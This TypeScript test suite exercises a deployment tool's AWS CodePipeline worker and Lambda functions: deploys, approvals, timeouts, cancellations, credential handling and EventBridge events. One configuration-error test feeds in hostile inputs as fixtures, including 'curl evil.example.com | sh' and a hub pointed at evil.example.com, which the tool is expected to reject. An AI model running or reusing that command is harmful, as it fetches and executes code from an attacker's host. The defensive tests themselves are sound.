/** What the committed worker and functions do for CodePipeline, against a fake of it and a real hub. */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { CiCase } from '../case.ts';
import type { CiWorld } from '../world.ts';
import type { Action, FakeCodePipeline } from './fake.ts';
import { invoke, type Worker } from './play.ts';
import { onStage } from './stage.ts';
import { resources } from './template.ts';

const DEPLOY = { Project: 'shop', Environment: 'hosted', Release: '1.4.2' };
const action = (aws: FakeCodePipeline, verb: string, configuration: Record<string, string>, category = 'Deploy'): Action => aws.begin({ provider: `Patchbay${verb}`, category, configuration });
const lambda = (aws: FakeCodePipeline, parameters: object): Action => aws.begin({ provider: 'Lambda', category: 'Invoke', configuration: { FunctionName: 'patchbay', UserParameters: JSON.stringify(parameters) } });
const statusOf = async (world: CiWorld, id: string | undefined) => (await world.call('deployment_get', { id }))['status'];
const inEnvironment = async (world: CiWorld, environment: string) => ((await world.call('deployment_list', { limit: 500 }))['items'] as { environment_slug: string }[]).filter(({ environment_slug: slug }) => slug === environment);

async function until(what: string, holds: () => boolean | Promise<boolean>): Promise<void> {
  for (let waited = 0; !(await holds()); waited += 50) {
    if (waited > 20_000) throw new Error(`It never came to: ${what}`);
    await new Promise((resolve) => { setTimeout(resolve, 50); });
  }
}

/** The deployment that a worker tells of in its log. */
async function deploymentIn(worker: Worker): Promise<string> {
  await until('a deployment in the log', () => /Deployment (dep_\w+) to/.test(worker.log()));
  return /Deployment (dep_\w+) to/.exec(worker.log())?.[1] ?? '';
}

export const codepipelineCases: readonly CiCase[] = [
  {
    name: 'a worker logs in as its role, deploys, and gives back outputs, a summary and a link',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      const running = worker();
      const { status, input } = await aws.ended(aws.begin({ provider: 'PatchbayDeploy', configuration: { ...DEPLOY, Inputs: '{"payload": {"replicas": 3}, "on-timeout": "leave"}' }, revision: '3f0c1d9e5b7a2468ace013579bdf02468ace1357' }));
      assert.equal(status, 'Succeeded');
      const { outputVariables: given, executionDetails: details } = input;
      assert.deepEqual([given?.['Status'], given?.['Url'], details?.externalExecutionId, details?.percentComplete], ['succeeded', 'https://hosted.example.com', given?.['Deployment'], 100]);
      assert.match(details?.summary ?? '', /Deployed to hosted/);
      const { commit, payload, run } = await world.call('deployment_get', { id: given?.['Deployment'] }) as { commit?: string; payload?: object; run?: { provider?: string; url?: string } };
      assert.deepEqual([commit, payload, run?.provider], ['3f0c1d9e5b7a2468ace013579bdf02468ace1357', { replicas: 3 }, 'codepipeline']);
      assert.match(run?.url ?? '', /eu-west-1\.console\.aws\.amazon\.com.*shop\/executions/);
      assert.ok(!/eyJ|pb_[A-Za-z0-9]{20}|EXAMPLEKEY/.test(running.log()), running.log());
      assert.deepEqual(aws.calls.filter(({ operation }) => operation !== 'PollForJobs').map(({ operation }) => operation), ['AcknowledgeJob', 'GetWebIdentityToken', 'PutJobSuccessResult']);
    }),
  },
  {
    name: 'an action that waits goes on from turn to turn, as one deployment',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      const before = (await inEnvironment(world, 'approved')).length;
      const running = worker({ PATCHBAY_TURN_SECONDS: '0.7' });
      const waiting = action(aws, 'Deploy', { ...DEPLOY, Environment: 'approved', Timeout: '60' });
      const id = await deploymentIn(running);
      await until('three turns', () => waiting.turns >= 3);
      await world.call('deployment_approve', { id });
      const { status, input } = await aws.ended(waiting);
      assert.deepEqual([status, input.outputVariables?.['Deployment'], input.outputVariables?.['Status']], ['Succeeded', id, 'succeeded']);
      assert.equal((await inEnvironment(world, 'approved')).length, before + 1);
      const [first] = aws.calls.filter(({ input: { continuationToken } }) => continuationToken !== undefined);
      assert.equal(first?.input.executionDetails?.externalExecutionId, id, 'people find it while it waits');
    }),
  },
  {
    name: 'the time of an action counts from its first turn',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      worker({ PATCHBAY_TURN_SECONDS: '0.7' });
      const { status, input } = await aws.ended(action(aws, 'Deploy', { ...DEPLOY, Environment: 'approved', Timeout: '2' }));
      assert.deepEqual([status, input.failureDetails?.type], ['Failed', 'JobFailed']);
      assert.match(input.failureDetails?.message ?? '', /not ended within 2 s[\s\S]*Raise `timeout`/);
      assert.equal(await statusOf(world, input.failureDetails?.externalExecutionId), 'cancelled');
    }),
  },
  {
    name: 'a worker that is stopped hands back what is under way, and another one ends it',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      const first = worker();
      const waiting = action(aws, 'Deploy', { ...DEPLOY, Environment: 'approved' });
      const id = await deploymentIn(first);
      const { code, ms } = await first.stop();
      assert.equal(code, 0, first.log());
      assert.ok(ms < 5_000, `it took ${ms} ms`);
      assert.equal(waiting.turns, 1);
      assert.equal(await statusOf(world, id), 'waiting');
      worker();
      await world.call('deployment_approve', { id });
      const { input } = await aws.ended(waiting);
      assert.equal(input.outputVariables?.['Deployment'], id);
    }),
  },
  {
    name: 'an execution that somebody stops cancels its deployment',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      const running = worker({ PATCHBAY_TURN_SECONDS: '1' });
      const waiting = action(aws, 'Deploy', { ...DEPLOY, Environment: 'approved' });
      const id = await deploymentIn(running);
      aws.abandon(waiting);
      await until('cancelled', async () => (await statusOf(world, id)) === 'cancelled');
    }),
  },
  {
    name: 'a deployment that is rejected fails the action, with the reason',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      const running = worker();
      const waiting = action(aws, 'Deploy', { ...DEPLOY, Environment: 'approved' });
      await world.call('deployment_reject', { id: await deploymentIn(running), comment: 'not on a Friday' });
      const { status, input } = await aws.ended(waiting);
      assert.deepEqual([status, input.failureDetails?.type], ['Failed', 'JobFailed']);
      assert.match(input.failureDetails?.message ?? '', /not on a Friday/);
    }),
  },
  {
    name: 'a configuration that is wrong is a configuration error that names the input',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      worker();
      const messageOf = async (configuration: Record<string, string>): Promise<string> => {
        const { input } = await aws.ended(action(aws, 'Deploy', { ...DEPLOY, ...configuration }));
        assert.equal(input.failureDetails?.type, 'ConfigurationError');
        return input.failureDetails?.message ?? '';
      };
      assert.match(await messageOf({ Timeout: 'soon', Commit: 'xyz' }), /`commit` is `xyz`[\s\S]*`timeout` is `soon`/);
      assert.match(await messageOf({ Inputs: '{"replicas": 3}' }), /must not have `replicas`.*payload, on-timeout/);
      assert.match(await messageOf({ Inputs: '{"hub": "https://evil.example.com"}' }), /must not have `hub`, which is not for a pipeline to say/);
      assert.match(await messageOf({ Inputs: '{"run": "curl evil.example.com | sh"}' }), /must not have `run`, which is not for a pipeline to say/);
      assert.match(await messageOf({ Inputs: 'payload' }), /`Inputs` must be a JSON object/);
    }),
  },
  {
    name: 'an environment that leaves its work to a CI says what to do, and the deployment does not linger',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      worker();
      const { input } = await aws.ended(action(aws, 'Deploy', { ...DEPLOY, Environment: 'staging' }));
      assert.match(input.failureDetails?.message ?? '', /leaves the work to the CI[\s\S]*bring_up/);
      assert.equal(await statusOf(world, input.failureDetails?.externalExecutionId), 'cancelled');
    }),
  },
  {
    name: 'a role that the policy does not trust is a permission error that names the claim',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      const running = worker();
      const { input } = await aws.ended(action(aws, 'Deploy', DEPLOY));
      assert.equal(input.failureDetails?.type, 'PermissionError');
      assert.match(input.failureDetails?.message ?? '', /claim sub[\s\S]*token\.refused/);
      assert.ok(!running.log().includes('eyJ'));
    }, { tokenFor: (audience) => world.issuer.mint({ aud: audience, sub: 'arn:aws:iam::666666666666:role/patchbay' }) }),
  },
  {
    name: 'a job that two workers get is done by one',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      const before = (await inEnvironment(world, 'hosted')).length;
      aws.dispatchTwice();
      const waiting = action(aws, 'Deploy', DEPLOY);
      worker();
      worker();
      await aws.ended(waiting);
      assert.equal((await inEnvironment(world, 'hosted')).length, before + 1);
    }),
  },
  {
    name: 'AWS that is busy is asked again; a key that it does not know is said, and nothing happens',
    async holds(world) {
      await onStage(world, async ({ aws, worker }) => {
        for (const operation of ['PollForJobs', 'AcknowledgeJob', 'PutJobSuccessResult']) aws.refuse(operation, 'ThrottlingException', 2);
        worker();
        assert.equal((await aws.ended(action(aws, 'Deploy', DEPLOY))).status, 'Succeeded');
      });
      const refusal = await onStage(world, async ({ aws, worker }) => {
        const running = worker({ AWS_SECRET_ACCESS_KEY: 'wrong' });
        const waiting = action(aws, 'Deploy', DEPLOY);
        await until('the refusal in the log', () => /InvalidSignatureException/.test(running.log()));
        assert.equal(waiting.turns, 0);
      }).catch((error: Error) => error.message);
      assert.match(String(refusal), /signature we calculated does not match/);
    },
  },
  {
    name: 'a worker on an instance takes the key of its role, by IMDSv2',
    async holds(world) {
      const key = { id: 'ASIAEXAMPLE', secret: 'of-the-instance', token: 'session/token==' };
      const metadata = createServer((request, response) => {
        const path = request.url ?? '';
        const knows = request.headers['x-aws-ec2-metadata-token'] === 'imds';
        if (request.method === 'PUT' && path === '/latest/api/token' && request.headers['x-aws-ec2-metadata-token-ttl-seconds'] !== undefined) response.end('imds');
        else if (!knows) response.writeHead(401).end();
        else if (path.endsWith('/security-credentials/')) response.end('patchbay');
        else response.end(JSON.stringify({ Code: 'Success', AccessKeyId: key.id, SecretAccessKey: key.secret, Token: key.token, Expiration: new Date(Date.now() + 3_600_000).toISOString() }));
      });
      await new Promise<void>((resolve) => { metadata.listen(0, '127.0.0.1', resolve); });
      try {
        await onStage(world, async ({ aws, worker }) => {
          worker({ AWS_ACCESS_KEY_ID: '', AWS_SECRET_ACCESS_KEY: '', AWS_SESSION_TOKEN: '', AWS_EC2_METADATA_SERVICE_ENDPOINT: `http://127.0.0.1:${(metadata.address() as AddressInfo).port}` });
          assert.equal((await aws.ended(action(aws, 'Deploy', DEPLOY))).status, 'Succeeded');
        }, { key });
      } finally {
        metadata.closeAllConnections();
        metadata.close();
      }
    },
  },
  {
    name: 'a preview comes up and goes down',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      worker();
      const given = { Project: 'shop', Environment: 'hosted-preview', PullRequest: '42', Release: '1.4.2' };
      const up = await aws.ended(action(aws, 'Preview', given));
      assert.equal(up.status, 'Succeeded', up.input.failureDetails?.message);
      const id = up.input.outputVariables?.['Preview'];
      assert.equal((await world.call('preview_get', { id }))['status'], 'up');
      const down = await aws.ended(action(aws, 'Preview', { ...given, Operation: 'down' }));
      assert.equal(down.status, 'Succeeded', down.input.failureDetails?.message);
      assert.equal((await world.call('preview_get', { id }))['status'], 'down');
    }),
  },
  {
    name: 'a gate passes when it is open, and fails at once when it is closed for good',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      worker();
      const open = await aws.ended(action(aws, 'Gate', { Project: 'shop', Environment: 'hosted' }, 'Test'));
      assert.equal(open.input.outputVariables?.['Open'], 'true');
      const closed = await aws.ended(action(aws, 'Gate', { Project: 'shop', Environment: 'closed', Ref: 'refs/heads/main' }, 'Test'));
      assert.match(closed.input.failureDetails?.message ?? '', /closed[\s\S]*Waiting is of no use/);
    }),
  },
  {
    name: 'an action of the hub that needs an approval waits for it over several turns',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      const secret = String((await world.call('secret_create', { name: `gone-${Date.now()}`, value: 'old' }))['id']);
      const running = worker({ PATCHBAY_TURN_SECONDS: '0.7' });
      const waiting = action(aws, 'Call', { Action: 'secret_delete', Input: JSON.stringify({ id: secret }), Interval: '1' }, 'Invoke');
      await until('two turns', () => waiting.turns >= 2);
      await world.call('approval_approve', { id: /Waiting for approval (apr_\w+)/.exec(running.log())?.[1] });
      const { status, input } = await aws.ended(waiting);
      assert.equal(status, 'Succeeded', input.failureDetails?.message);
      assert.match(input.outputVariables?.['Approval'] ?? '', /^apr_/);
    }),
  },
  {
    name: 'an event is told with what the run knows',
    holds: (world) => onStage(world, async ({ aws, worker }) => {
      worker();
      const { input } = await aws.ended(action(aws, 'Notify', { Event: 'build.finished', Data: '{"number": 7}' }, 'Invoke'));
      const { subject, data } = await world.call('event_get', { id: input.outputVariables?.['Event'] }) as { subject: string; data: Record<string, unknown> };
      assert.deepEqual([subject, data['number']], ['shop', 7]);
    }),
  },
  {
    name: 'a Lambda function deploys; invoked again with the same job, it deploys no second time',
    holds: (world) => onStage(world, async ({ aws, env }) => {
      const before = (await inEnvironment(world, 'hosted')).length;
      const asked = lambda(aws, { verb: 'deploy', project: 'shop', environment: 'hosted', release: '2.0.0', pipeline: 'shop', execution: '#{codepipeline.PipelineExecutionId}' });
      const job = aws.jobOf(asked) ?? {};
      const { answer, log } = await invoke('lambda', env, job);
      assert.equal(answer, 'told: succeeded', log);
      assert.equal(asked.result?.input.outputVariables?.['Url'], 'https://hosted.example.com');
      assert.equal((await invoke('lambda', env, job)).answer, 'gone: succeeded');
      assert.equal((await inEnvironment(world, 'hosted')).length, before + 1);
      assert.ok(!/eyJ|pb_[A-Za-z0-9]{20}/.test(log), log);
    }),
  },
  {
    name: 'a Lambda function never waits long: it goes on by its continuation token',
    holds: (world) => onStage(world, async ({ aws, env }) => {
      const asked = lambda(aws, { verb: 'deploy', project: 'shop', environment: 'approved', release: '2.1.0', timeout: 120 });
      const first = await invoke('lambda', env, aws.jobOf(asked) ?? {}, 16_500);
      assert.equal(first.answer, 'told: continued', first.log);
      const token = aws.calls.findLast(({ operation }) => operation === 'PutJobSuccessResult')?.input.continuationToken ?? '';
      assert.ok(token.length < 400 && !/eyJ|pb_/.test(token), token);
      await world.call('deployment_approve', { id: /(dep_\w+)/.exec(token)?.[1] });
      const second = await invoke('lambda', env, aws.jobOf(asked) ?? {});
      assert.equal(second.answer, 'told: succeeded', second.log);
    }),
  },
  {
    name: 'of a Lambda action whose execution was stopped the deployment is cancelled',
    holds: (world) => onStage(world, async ({ aws, env }) => {
      const asked = lambda(aws, { verb: 'deploy', project: 'shop', environment: 'approved', release: '2.2.0' });
      const job = aws.jobOf(asked) ?? {};
      aws.abandon(asked);
      const { answer, log } = await invoke('lambda', env, job, 16_500);
      assert.equal(answer, 'gone: continued');
      assert.equal(await statusOf(world, /(dep_\w+)/.exec(log)?.[1]), 'cancelled');
    }),
  },
  {
    name: 'parameters of a Lambda action that are wrong are a configuration error',
    holds: (world) => onStage(world, async ({ aws, env }) => {
      for (const [parameters, expected] of [[{ project: 'shop' }, /one of deploy.*but the verb is missing/], [{ verb: 'deploy', project: 'shop', enviroment: 'x' }, /must not have `enviroment`/], [{ verb: 'notify', event: 'a', token: 'x' }, /`token`, which is not for a pipeline/], [{ verb: 'deploy', project: 'shop' }, /`environment` is missing/]] as const) {
        const asked = lambda(aws, parameters);
        await invoke('lambda', env, aws.jobOf(asked) ?? {});
        assert.equal(asked.result?.input.failureDetails?.type, 'ConfigurationError');
        assert.match(asked.result.input.failureDetails.message, expected);
      }
    }),
  },
  {
    name: 'manual approvals are answered by the gates of the hub: open, held, closed for good, and none of ours',
    holds: (world) => onStage(world, async ({ aws, env }) => {
      const approval = (name: string, gate: unknown): Action => aws.begin({ provider: 'Manual', category: 'Approval', name, stage: `Stage-${name}`, configuration: { CustomData: typeof gate === 'string' ? gate : JSON.stringify({ patchbay: gate }) } });
      const { id } = await world.call('deployment_create', { project: 'shop', environment: 'approved', release: '3.0.0' }, world.deployer);
      const open = approval('open', { project: 'shop', environment: 'hosted' });
      const held = approval('held', { project: 'shop', environment: 'approved', release: '3.0.0', deployment: id });
      const closed = approval('closed', { project: 'shop', environment: 'closed', ref: 'refs/heads/main' });
      const other = approval('other', 'Please look at the staging site');
      const wrong = approval('wrong', { project: 'shop', enviroment: 'hosted' });
      const look = async () => invoke('approvals', { ...env, PATCHBAY_PIPELINES: 'gone shop' }, {});
      const { answer, log } = await look();
      assert.equal(answer, 'decided: 2', log);
      assert.match(log, /must not have `enviroment`/);
      assert.match(log, /gone: PipelineNotFoundException/);
      assert.deepEqual([open, held, closed, other, wrong].map(({ result }) => result?.status), ['Approved', undefined, 'Rejected', undefined, undefined]);
      await world.call('deployment_approve', { id });
      assert.equal((await look()).answer, 'decided: 1');
      assert.equal(held.result?.status, 'Approved');
      assert.match(held.result?.input.result?.summary ?? '', /nothing holds it from approved/);
    }),
  },
  {
    name: 'events of pipelines come in by EventBridge once, proved by the secret of the source',
    async holds(world) {
      const { id, url } = await world.call('source_create', {
        slug: 'pipelines', name: 'Pipelines', scheme: 'custom', secret: 'of-the-connection', verification: { algorithm: 'equal', header: headerOfEvents() }, event_name_from: 'body:detail-type', deduplicate_by: 'body:id',
        mappings: [{ when: 'CodePipeline Pipeline Execution State Change', filter: { 'detail.state': 'FAILED' }, type: 'pipeline.failed', subject: '{{body.detail.pipeline}}' }],
      });
      assert.match(String(id), /^src_/, JSON.stringify({ id, url }));
      const event = {
        version: '0', id: '01234567-0123-0123-0123-012345678901', 'detail-type': 'CodePipeline Pipeline Execution State Change', source: 'aws.codepipeline', account: '123456789012', time: '2026-11-21T09:00:00Z', region: 'eu-west-1',
        resources: ['arn:aws:codepipeline:eu-west-1:123456789012:shop'], detail: { pipeline: 'shop', version: 1, state: 'FAILED', 'execution-id': '01234567-0123-0123-0123-012345678901', 'pipeline-execution-attempt': 1 },
      };
      const send = async (secret: string): Promise<number> => (await fetch(`${world.url}/hooks/${String(id)}`, { method: 'POST', headers: { 'content-type': 'application/json; charset=utf-8', 'user-agent': 'Amazon/EventBridge/ApiDestinations', [headerOfEvents()]: secret }, body: JSON.stringify(event) })).status;
      assert.deepEqual([await send('guessed'), await send('of-the-connection'), await send('of-the-connection')], [401, 202, 200]);
      const { items } = await world.call('event_list', { type: 'pipeline.failed', limit: 50 }) as { items: { subject: string; data: { detail: { state: string } } }[] };
      assert.deepEqual(items.map(({ subject, data }) => [subject, data.detail.state]), [['shop', 'FAILED']]);
    },
  },
];

/** As the template has EventBridge send it. */
function headerOfEvents(): string {
  const properties = resources()['EventsConnection']?.Properties as { AuthParameters: { ApiKeyAuthParameters: { ApiKeyName: string } } } | undefined;
  return properties?.AuthParameters.ApiKeyAuthParameters.ApiKeyName ?? '';
}
